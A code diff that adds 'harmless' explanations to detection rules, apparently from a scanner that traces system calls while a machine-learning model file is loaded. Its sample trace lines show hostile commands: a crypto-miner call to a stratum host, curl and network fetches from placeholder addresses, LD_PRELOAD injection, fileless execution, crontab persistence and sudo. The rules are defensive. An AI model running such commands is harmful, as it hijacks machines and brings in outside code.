@@ -43,6 +43,7 @@ export const EXECUTION: readonly Rule[] = [
     title: 'Python or a library starts a helper of its own',
     meaning:
       'File, command line and environment are those that Python and its libraries use, so the model gains nothing by it; what the helper does is watched like the rest.',
+    harmless: 'Always, as long as it stays what it is: the finding is there for completeness.',
     advice: 'Nothing needs to be done.',
     example: [
       '100 vfork() = 101',
@@ -57,6 +58,7 @@ export const EXECUTION: readonly Rule[] = [
     attack: 'T1574.006',
     title: 'Slips code into a program that it starts',
     meaning: 'The library named in the environment runs inside the program, under its name.',
+    harmless: 'Where you load the model with another allocator of memory, and have set that yourself.',
     advice: ADVICE,
     example: ['100 execve("/usr/bin/id", ["id"], ["LD_PRELOAD=/tmp/x.so"]) = 0'],
     subject: (act) => (act.act === 'start' ? act.preload : undefined),
@@ -68,6 +70,7 @@ export const EXECUTION: readonly Rule[] = [
     attack: 'T1620',
     title: 'Runs a program that is on no disk',
     meaning: 'A program that lives only in memory leaves nothing for a virus scanner to find.',
+    harmless: 'Never: loading a model needs nothing of the kind.',
     advice: ADVICE,
     example: ['100 execve("/proc/self/fd/5", ["x"], 0x7ffc0000 /* 9 vars */) = 0'],
     subject: started((start) => start.fileless),
@@ -79,6 +82,7 @@ export const EXECUTION: readonly Rule[] = [
     attack: 'T1496.001',
     title: 'Starts a crypto-currency miner',
     meaning: 'It would use this computer to earn money for another person.',
+    harmless: 'Never: loading a model needs nothing of the kind.',
     advice: ADVICE,
     example: [
       '100 execve("/bin/sh", ["sh", "-c", "xmrig -o stratum+tcp://192.0.2.9:3333"], 0x7ffc0000 /* 9 vars */) = 0',
@@ -92,6 +96,7 @@ export const EXECUTION: readonly Rule[] = [
     attack: 'T1105',
     title: 'Fetches a program from the network and runs it',
     meaning: 'The owner of the other machine decides what runs here, and can change it every day.',
+    harmless: 'Never: loading a model needs nothing of the kind.',
     advice: 'Do not load this model. If you have, disconnect the machine and treat it as taken over.',
     example: [
       '100 connect(3<TCP:[1]>, {sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr("203.0.113.7")}, 16) = 0',
@@ -107,6 +112,8 @@ export const EXECUTION: readonly Rule[] = [
     attack: 'T1105',
     title: 'Runs a program that did not come with the system',
     meaning: 'The program was brought along or written just before: the author of the model decides what it does.',
+    harmless:
+      'Where a library unpacks a tool of its own before it starts it; the report says where the program came from.',
     advice: ADVICE,
     example: ['100 execve("/tmp/stage2", ["/tmp/stage2"], 0x7ffc0000 /* 9 vars */) = -1 EACCES (Permission denied)'],
     subject: started(
@@ -121,6 +128,7 @@ export const EXECUTION: readonly Rule[] = [
     attack: 'T1053.003',
     title: 'Schedules a program to run later',
     meaning: 'It would run again after the model is closed, and after the computer restarts.',
+    harmless: 'Never: loading a model needs nothing of the kind.',
     advice: ADVICE,
     example: [
       '100 execve("/usr/bin/crontab", ["crontab", "/tmp/c"], 0x7ffc0000 /* 9 vars */) = -1 ENOENT (No such file or directory)',
@@ -136,6 +144,7 @@ export const EXECUTION: readonly Rule[] = [
     attack: 'T1548.003',
     title: 'Asks for administrator rights',
     meaning: 'With them it could change anything on the computer.',
+    harmless: 'Never: loading a model needs nothing of the kind.',
     advice: ADVICE,
     example: [
       '100 execve("/usr/bin/sudo", ["sudo", "id"], 0x7ffc0000 /* 9 vars */) = -1 EPERM (Operation not permitted)',
@@ -151,6 +160,7 @@ export const EXECUTION: readonly Rule[] = [
     attack: 'T1195.001',
     title: 'Installs software',
     meaning: 'Opening a model must not install anything: a package can run any code while it is installed.',
+    harmless: 'In the set-up script of a project that you start yourself.',
     advice: ADVICE,
     example: [
       '100 execve("/usr/bin/pip", ["pip", "install", "example-package"], 0x7ffc0000 /* 9 vars */) = -1 ENOENT (No such file or directory)',
@@ -169,6 +179,7 @@ export const EXECUTION: readonly Rule[] = [
     attack: 'T1105',
     title: 'Starts a program that transfers files',
     meaning: 'Such a program brings in more code, or carries data out.',
+    harmless: 'In a script that fetches weights and that you start yourself; never while a file is loaded.',
     advice: ADVICE,
     example: [
       '100 execve("/usr/bin/curl", ["curl", "-s", "http://192.0.2.9/x"], 0x7ffc0000 /* 9 vars */) = -1 ENOENT (No such file or directory)',
@@ -182,6 +193,7 @@ export const EXECUTION: readonly Rule[] = [
     attack: 'T1204.001',
     title: 'Opens a web page or another document',
     meaning: 'The page is chosen by the model, and opens in the browser of the user who loads it.',
+    harmless: 'In a tool that shows its results in a page and that you start yourself.',
     advice: 'Do not load this model unless you know why it opens a page.',
     example: [
       '100 execve("/usr/bin/xdg-open", ["xdg-open", "http://192.0.2.9/"], 0x7ffc0000 /* 9 vars */) = -1 ENOENT (No such file or directory)',
@@ -195,6 +207,7 @@ export const EXECUTION: readonly Rule[] = [
     attack: 'T1480',
     title: 'Starts a program of another operating system',
     meaning: 'It did nothing here because this sandbox is Linux; on the system it is made for it would act.',
+    harmless: 'Where a library tries a tool of another system to find out which system this is.',
     advice: ADVICE,
     example: [
       '100 execve("/usr/bin/powershell", ["powershell", "-c", "calc.exe"], 0x7ffc0000 /* 9 vars */) = -1 ENOENT (No such file or directory)',
@@ -211,6 +224,8 @@ export const EXECUTION: readonly Rule[] = [
     attack: 'T1059.004',
     title: 'Runs a shell command',
     meaning: 'A model is data: opening one never needs a shell, and a shell can do anything its user can.',
+    harmless:
+      'Where a library asks the compiler or the linker what there is; those of Python’s own are taken off by exact command lines.',
     advice: ADVICE,
     example: ['100 execve("/bin/sh", ["sh", "-c", "id"], 0x7ffc0000 /* 9 vars */) = 0'],
     subject: started((start, name) => SHELLS.test(name) && !isRetold(start)),
@@ -222,6 +237,7 @@ export const EXECUTION: readonly Rule[] = [
     attack: 'T1059.006',
     title: 'Starts another program interpreter',
     meaning: 'It runs code that is not part of the model, out of sight of tools that only read the model.',
+    harmless: 'Where a library starts workers of its own; those of Python’s own are taken off.',
     advice: ADVICE,
     example: ['100 execve("/usr/bin/perl", ["perl", "-e", "print 1"], 0x7ffc0000 /* 9 vars */) = 0'],
     subject: started((_, name) => INTERPRETERS.test(name)),
@@ -233,6 +249,7 @@ export const EXECUTION: readonly Rule[] = [
     attack: 'T1204.002',
     title: 'Starts another program',
     meaning: 'Loading this kind of model starts no program.',
+    harmless: 'Where a library asks a tool for its version, such as one for graphics cards.',
     advice: ADVICE,
     example: ['100 execve("/usr/bin/id", ["id"], 0x7ffc0000 /* 9 vars */) = 0'],
     subject: started((start) => !isRetold(start)),
@@ -248,6 +265,7 @@ export const CODE: readonly Rule[] = [
     attack: 'T1129',
     title: 'Loads machine code that it has just written',
     meaning: 'The code was hidden in the model as data, where tools that look for programs do not find it.',
+    harmless: 'Where a compiler of a library writes its code to a cache and loads it, as Triton and Theano do.',
     advice: ADVICE,
     example: [
       '100 openat(AT_FDCWD, "/tmp/x.so", O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, 0666) = 5</tmp/x.so>',
@@ -268,6 +286,7 @@ export const CODE: readonly Rule[] = [
     attack: 'T1129',
     title: 'Loads machine code that did not come with the system',
     meaning: 'A native library runs its own code as soon as it is loaded.',
+    harmless: 'Where you installed a package with native code beside the model yourself.',
     advice: ADVICE,
     example: [
       '100 mmap(0x7f00, 81920, PROT_READ|PROT_EXEC, MAP_PRIVATE|MAP_FIXED|MAP_DENYWRITE, 5</model/weights.bin>, 0x3000) = 0x7f00',
@@ -286,6 +305,7 @@ export const CODE: readonly Rule[] = [
     attack: 'T1574',
     title: 'Has a worker process run code that did not come with the system',
     meaning: 'Workers run in an interpreter of their own, in which no audit hook sees the code that they are given.',
+    harmless: 'Where the workers load data by a class of your own project.',
     advice: ADVICE,
     example: [
       '100 vfork() = 101',
@@ -308,6 +328,7 @@ export const CODE: readonly Rule[] = [
     attack: 'T1574',
     title: 'Runs Python code that lies beside the model',
     meaning: 'The harmful part can hide in a file that does not look like a part of the model.',
+    harmless: 'Where the code came with the model on purpose, you read it, and it only defines classes.',
     advice: 'Look at the Python files next to the model before loading it, or load it in a folder of its own.',
     example: ['100 openat(AT_FDCWD, "/model/helper.py", O_RDONLY|O_CLOEXEC) = 5</model/helper.py>'],
     subject: (act) => {
